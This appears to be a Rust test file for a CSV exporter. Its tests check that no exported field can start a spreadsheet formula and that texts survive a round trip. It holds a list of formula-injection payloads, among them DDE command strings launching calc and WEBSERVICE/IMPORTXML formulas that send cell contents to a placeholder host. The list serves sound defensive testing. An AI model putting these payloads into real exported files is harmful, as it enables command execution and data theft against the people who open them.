//! Texts that want to be more than text.

use proptest::prelude::{Strategy, any, prop, prop_assert_eq, prop_oneof, proptest};
use ravao_core::{Cell, Column, ErrorKind, Exporter, Table};
use ravao_export_csv::{CodeStyle, CsvExporter, Delimiter, restore};

use crate::reading::{PAIRS, file, rows_between};

const FORMULA_CHARACTERS: &[char] = &['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t', '\r', '\n'];

const PAYLOADS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Chi tiết\")",
    "=WEBSERVICE(\"http://example.invalid/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
    "=\"0080\"",
    "=\"\"&cmd|'/C calc'!A0",
    "\"=1+1",
    "\"\"=1+1",
    "\",=1+1,\"",
    "\";=1+1;\"",
    "a\",\"=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a\n=1+1",
    "a\r=1+1",
    "a\r\n=1+1",
    "a\u{2028}=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}\u{200d}\u{2060}=1+1",
    "\u{202e}=1+1",
    "\u{ad}=1+1",
    "\u{e0020}=1+1",
    "\0=1+1",
    "\u{1b}=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "\u{feff}＝1+1",
    "'=1+1",
    "''=1+1",
    "a,'=1+1",
    "%0A=1+1",
    "1e5",
    "１２３",
];

fn exporters() -> [(u8, CsvExporter); 5] {
    let excel = CsvExporter::for_excel();
    [
        (b',', CsvExporter::new()),
        (b';', CsvExporter::new().delimiter(Delimiter::Semicolon).codes(CodeStyle::TextFormula)),
        (b',', excel),
        (b';', excel.delimiter(Delimiter::Semicolon)),
        (b'\t', excel.delimiter(Delimiter::Tab)),
    ]
}

/// What a text is in a file: control characters that no cell needs are shown as U+FFFD.
fn shown(text: &str) -> String {
    let unwanted = |c: char| c.is_control() && !matches!(c, '\t' | '\r' | '\n');
    text.replace(unwanted, "\u{fffd}")
}

fn is_text_formula(field: &str) -> bool {
    let code = field.strip_prefix("=\"").and_then(|rest| rest.strip_suffix('"'));
    code.is_some_and(|code| {
        code.bytes().all(|byte| byte.is_ascii_alphanumeric() || b" -._:/".contains(&byte))
    })
}

fn opens_formula(field: &str) -> bool {
    field.trim_start().trim_start_matches(['\u{feff}', '\u{200b}']).starts_with(FORMULA_CHARACTERS)
        || field.starts_with(FORMULA_CHARACTERS)
}

#[test]
fn no_field_begins_a_formula() {
    for (delimiter, exporter) in exporters() {
        for &payload in PAYLOADS {
            let row = vec![Cell::Text(payload.into()), Cell::Code(payload.into())];
            let file = file(exporter, &PAIRS, &[row]);
            let rows = rows_between(delimiter, file.as_bytes());
            assert_eq!((rows.len(), rows[0].len()), (1, 2), "{payload:?}");
            assert!(!opens_formula(&rows[0][0]), "{payload:?} as text");
            let code = &rows[0][1];
            assert!(!opens_formula(code) || is_text_formula(code), "{payload:?} as code");
        }
    }
}

/// A spreadsheet set to another list separator sees other cells; those hold no formula either.
#[test]
fn no_field_begins_a_formula_between_foreign_separators() {
    for &payload in PAYLOADS {
        let file = file(CsvExporter::new(), &PAIRS, &[vec![payload_cell(payload); 2]]);
        for cell in file.split([',', ';', '\t', '|', '\r', '\n', '"']).skip(2) {
            let formula = cell.trim_start().starts_with(&FORMULA_CHARACTERS[..8]);
            assert!(!formula, "{payload:?} gives {cell:?}");
        }
    }
}

fn payload_cell(payload: &str) -> Cell<'_> {
    Cell::Text(payload.into())
}

#[test]
fn every_payload_comes_back() {
    for (delimiter, exporter) in exporters() {
        for &payload in PAYLOADS {
            check_round_trip(delimiter, exporter, payload).unwrap();
        }
    }
}

fn check_round_trip(
    delimiter: u8,
    exporter: CsvExporter,
    text: &str,
) -> Result<(), proptest::test_runner::TestCaseError> {
    let row = vec![Cell::Text(text.into()), Cell::Code(text.into())];
    let file = file(exporter, &PAIRS, &[row.clone(), row]);
    let rows = rows_between(delimiter, file.as_bytes());
    prop_assert_eq!(rows.len(), 2);
    for field in rows.iter().flatten() {
        prop_assert_eq!(restore(field), shown(text));
    }
    Ok(())
}

/// Any Unicode, and texts made of the characters that matter.
fn text() -> impl Strategy<Value = String> {
    let nasty = "[=+@'\",;|\t\r\n \u{feff}\u{200b}\u{a0}0-9ae＝１\u{0}\u{85}\u{2028}-]{0,12}";
    prop_oneof![any::<String>(), nasty]
}

proptest! {
    #[test]
    fn any_text_comes_back(text in text()) {
        for (delimiter, exporter) in exporters() {
            check_round_trip(delimiter, exporter, &text)?;
        }
    }

    #[test]
    fn different_texts_are_different_fields(texts in prop::collection::hash_set(text(), 2)) {
        let texts: Vec<_> = texts.into_iter().collect();
        for (_, exporter) in exporters() {
            let file_of = |text: &str| file(exporter, &PAIRS, &[vec![Cell::Code(text.into()), Cell::Empty]]);
            let same = file_of(&texts[0]) == file_of(&texts[1]);
            prop_assert_eq!(same, shown(&texts[0]) == shown(&texts[1]));
        }
    }
}

#[test]
fn headings_are_guarded_like_text() {
    static ODD: Table =
        Table { name: "odd", columns: &[Column { name: "=1,\n", personal: false }] };
    assert_eq!(file(CsvExporter::new(), &ODD, &[]), "\"'=1,\n\"\n");
}

#[test]
fn a_table_without_columns_is_unsupported() {
    static BARE: Table = Table { name: "bare", columns: &[] };
    let error = CsvExporter::new().start(&BARE, Box::new(std::io::sink())).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Unsupported);
}
